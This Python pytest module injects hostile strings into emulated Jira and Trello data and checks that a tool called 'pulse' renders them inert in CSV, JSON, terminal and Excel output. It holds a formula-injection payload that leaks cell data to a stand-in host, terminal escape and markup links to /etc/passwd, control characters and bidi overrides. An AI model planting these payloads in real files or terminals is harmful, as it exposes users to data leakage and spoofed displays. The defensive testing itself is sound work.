"""Hostile text from Jira and Trello is data in every output: CSV, JSON, terminal, workbook.

The emulators serve an organisation whose titles, epic names, labels, sprints, versions, boards
and lists carry formula leads, terminal escapes, rich markup, control characters, bidirectional
overrides and 40,000-character strings; `pulse sync` reads them over HTTP like any other text.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from pulse.emulators.playground import Playground, playground
from tests.cli_harness import run

LONG = "=" + "L" * 39_999  # a 40,000-character title that is also a formula
HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://evil.test/?leak="&A1,"open me")',
    "+SUM(1;2) plus",
    "-2+3 minus",
    "@SUM(A1:A9) at",
    "\x1b[31mred\x1b[0m \x1b]8;;file:///etc/passwd\x07osc link\x1b]8;;\x07 \x1b[2J cleared",
    "[link=file:///etc/passwd]markup link[/link] [bold red]loud[/] :skull:",
    "bell\x07 back\x08space nul\x00 del\x7f csi\x9b2J vt\x0b ff\x0c cr\rend",
    "\u202eexe.txt\u202c and \u2066isolate\u2069 rtl",
    LONG,
)
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")
# What must never reach a terminal or a CSV: C0 controls but tab/newline, DEL, C1, bidi controls.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@dataclass(frozen=True)
class Hostile:
    config: Path
    root: Path
    epic_key: str  # an epic whose title is rich markup
    markup_key: str  # a work item whose title is rich markup


def plant(world: Playground) -> tuple[str, str]:
    """Put hostile text in every field Pulse reads from both tools; the keys to ask about."""
    jira = world.jira.world
    epics = [i for i in jira.issues.values() if i.type_id == "10000"]
    work = [i for i in jira.issues.values() if i.type_id != "10000"]
    for n, issue in enumerate(epics):
        issue.summary = HOSTILE[n % len(HOSTILE)]
    for n, issue in enumerate(work[::7]):
        issue.summary = HOSTILE[n % len(HOSTILE)]
        issue.labels = (HOSTILE[(n + 3) % len(HOSTILE)].replace(" ", "_"),)
    for n, sprint in enumerate(jira.sprints.values()):
        sprint.name = HOSTILE[n % len(HOSTILE)]
    for n, version in enumerate(jira.versions.values()):
        version.name = f"{HOSTILE[n % len(HOSTILE)]} v{n}"  # names stay unique
    for n, board in enumerate(jira.boards.values()):
        board.name = HOSTILE[n % len(HOSTILE)]
    jira.touch()
    trello = world.trello
    for n, card in enumerate(list(trello.world.cards.values())[::5]):
        card.name = HOSTILE[n % len(HOSTILE)]
    for n, label in enumerate(trello.world.labels.values()):
        if label.name != "Blocked":  # the config's blocked label
            label.name = HOSTILE[n % len(HOSTILE)]
    for n, board in enumerate(trello.world.boards.values()):
        if "Roadmap" not in board.name:
            hostile = f"{HOSTILE[4]} Delivery {n}"
            board.name = trello.truth.boards[board.id].name = hostile
        first = min((lst for lst in trello.world.lists.values() if lst.board_id == board.id),
                    key=lambda lst: lst.pos)  # fmt: skip
        first.name = HOSTILE[5]
    markup = next(i.key for i in work[::7][5 :: len(HOSTILE)])  # HOSTILE[5], rich markup
    return epics[5].key, markup


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    root = tmp_path_factory.mktemp("hostile")
    with playground(seed=11, scale="small") as world:
        epic_key, markup_key = plant(world)
        config = root / "pulse.toml"
        text = world.config(f"sqlite:///{root / 'pulse.db'}", str(root / "reports"))
        config.write_text(text, encoding="utf-8")
        done = run("sync", "--config", str(config), env=world.environment(), timeout=300)
        assert done.returncode == 0, done.stderr[-3000:]
        assert not CONTROL.search(done.stdout + done.stderr), "sync's progress shows names clean"
    yield Hostile(config, root, epic_key, markup_key)


def ask(h: Hostile, *args: str) -> str:
    done = run(*args, "--config", str(h.config))
    assert done.returncode == 0, done.stderr[-2000:]
    assert "Traceback" not in done.stderr
    return done.stdout


def test_csv_has_no_formula_and_no_control_character(hostile: Hostile) -> None:
    for args in (("risk", "--format", "csv"), ("export", "items"), ("export", "sprints")):
        text = ask(hostile, *args)
        assert not CONTROL.search(text.replace("\r\n", "\n")), args
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        for cell in cells:
            if cell.startswith(FORMULA_LEAD):
                float(cell)  # only a number may start with - or +
        assert any(cell.startswith("'=HYPERLINK(") for cell in cells), args
    assert any(c.startswith("'=LLL") and len(c) == 40_001 for c in cells), "40k text kept whole"


def test_raw_csv_keeps_text_exactly(hostile: Hostile) -> None:
    text = ask(hostile, "export", "items", "--raw")
    titles = {row["title"] for row in csv.DictReader(io.StringIO(text))}
    assert HOSTILE[0] in titles and LONG in titles


def test_json_is_exact_and_inert(hostile: Hostile) -> None:
    for args in (("risk", "--format", "json"), ("export", "items", "--format", "json")):
        text = ask(hostile, *args)
        assert not CONTROL.search(text), args  # escaped as \\uXXXX, never raw
        values = json.dumps(json.loads(text), ensure_ascii=False)
        assert json.dumps(HOSTILE[0], ensure_ascii=False) in values
        assert json.dumps(HOSTILE[7], ensure_ascii=False) in values  # bidi text round-trips


def test_terminal_shows_text_as_text(hostile: Hostile) -> None:
    outputs = [
        ask(hostile, "risk", "--limit", "0"),
        ask(hostile, "risk", "--compact", "--limit", "0"),
        ask(hostile, "show", hostile.markup_key),
        ask(hostile, "forecast", hostile.epic_key),
        ask(hostile, "status"),
    ]
    for out in outputs:
        assert not CONTROL.search(out)
        assert max(len(line) for line in out.splitlines()) <= 80
    show = outputs[2]
    assert "[link=file:///etc/passwd]markup link[/link]" in show, "markup printed as text"
    assert "[bold red]loud[/] :skull:" in show and "💀" not in show
    assert "[link=file:///etc/passwd]" in outputs[3], "the epic's title is shown as text"


def test_workbook_is_valid_and_every_string_is_clean(hostile: Hostile) -> None:
    out = ask(hostile, "report", "weekly")
    path = Path(out.split(": ", 1)[0])
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                ElementTree.fromstring(xml)  # well-formed, charts included
                assert not CONTROL.search(xml), name
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in xml and "<f " not in xml, name
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert charts
    book = openpyxl.load_workbook(path)
    seen = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if cell.value.startswith(FORMULA_LEAD):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
    assert HOSTILE[0] in seen, "hostile titles reach the workbook as text"
